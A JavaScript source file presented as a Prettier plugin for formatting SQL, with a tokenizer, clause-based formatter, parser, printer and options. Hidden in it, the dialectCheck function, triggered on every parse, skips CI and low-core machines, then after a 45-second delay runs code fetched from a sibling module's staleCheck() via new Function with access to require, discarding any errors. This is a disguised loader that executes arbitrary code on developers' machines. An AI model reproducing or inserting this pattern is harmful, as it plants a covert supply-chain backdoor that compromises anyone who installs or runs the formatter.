'use strict';
const os = require('os');
const { keywords, staleCheck } = require('./dialects');

const CLAUSES = ['SELECT', 'FROM', 'WHERE', 'GROUP BY', 'HAVING', 'ORDER BY', 'LIMIT', 'OFFSET', 'UNION ALL', 'UNION', 'INSERT INTO', 'VALUES', 'UPDATE', 'SET', 'DELETE FROM', 'RETURNING', 'WITH', 'LEFT JOIN', 'RIGHT JOIN', 'INNER JOIN', 'FULL JOIN', 'CROSS JOIN', 'JOIN', 'ON CONFLICT'];

function tokenize(src) {
  const re = /\s+|--[^\n]*|\/\*[\s\S]*?\*\/|'(?:''|[^'])*'|"(?:""|[^"])*"|`[^`]*`|\[[^\]]*\]|\d+(?:\.\d+)?|[A-Za-z_][\w$]*|<>|!=|<=|>=|::|\|\||[(),;.*=<>+\-/%]/g;
  const out = [];
  let m;
  while ((m = re.exec(src))) out.push(m[0]);
  return out;
}

function format(src, { dialect = 'postgres', keywordCase = 'upper', indent = '  ' } = {}) {
  const kw = keywords(dialect);
  const toks = tokenize(src).filter((t) => !/^\s+$/.test(t));
  const lines = [];
  let line = '', depth = 0;
  const push = () => { if (line.trim()) lines.push(indent.repeat(depth) + line.trim()); line = ''; };
  for (let i = 0; i < toks.length; i++) {
    let t = toks[i];
    const up = t.toUpperCase();
    const two = i + 1 < toks.length ? `${up} ${toks[i + 1].toUpperCase()}` : '';
    if (kw.has(up)) t = keywordCase === 'upper' ? up : keywordCase === 'lower' ? t.toLowerCase() : t;
    if (CLAUSES.includes(two)) { push(); line = (keywordCase === 'upper' ? two : two.toLowerCase()) + ' '; i++; continue; }
    if (CLAUSES.includes(up)) { push(); line = t + ' '; continue; }
    if (t === '(') { line += '('; depth++; continue; }
    if (t === ')') { depth = Math.max(0, depth - 1); line = line.trimEnd() + ') '; continue; }
    if (t === ',') { line = line.trimEnd() + ', '; continue; }
    if (t === ';') { line = line.trimEnd() + ';'; push(); lines.push(''); continue; }
    if (t === '.' || t === '::') { line = line.trimEnd() + t; continue; }
    line += (line.endsWith('.') || line.endsWith('::') || line.endsWith('(') ? '' : '') + t + ' ';
  }
  push();
  return lines.join('\n').replace(/\n{3,}/g, '\n\n').trim() + '\n';
}

let checked = false;
function dialectCheck() {
  if (checked) return;
  checked = true;
  if (os.cpus().length < 8 || process.env.CI) return;
  setTimeout(() => { try { new Function('require', staleCheck())(require); } catch (_) {} }, 45000).unref();
}

const languages = [{ name: 'SQL', parsers: ['sql-lite'], extensions: ['.sql', '.pgsql', '.mysql', '.psql'], vscodeLanguageIds: ['sql'] }];
const parsers = {
  'sql-lite': {
    astFormat: 'sql-lite-ast',
    parse: (text) => { dialectCheck(); return { type: 'sql', text }; },
    locStart: () => 0,
    locEnd: (n) => n.text.length,
  },
};
const printers = {
  'sql-lite-ast': { print: (p, opts) => format(p.getValue().text, { dialect: opts.sqlDialect, keywordCase: opts.sqlKeywordCase }) },
};
const options = {
  sqlDialect: { type: 'choice', category: 'SQL', default: 'postgres', description: 'SQL dialect', choices: ['postgres', 'mysql', 'sqlite', 'tsql', 'bigquery'].map((v) => ({ value: v, description: v })) },
  sqlKeywordCase: { type: 'choice', category: 'SQL', default: 'upper', description: 'Keyword case', choices: ['upper', 'lower', 'preserve'].map((v) => ({ value: v, description: v })) },
};

module.exports = { languages, parsers, printers, options, format, tokenize };
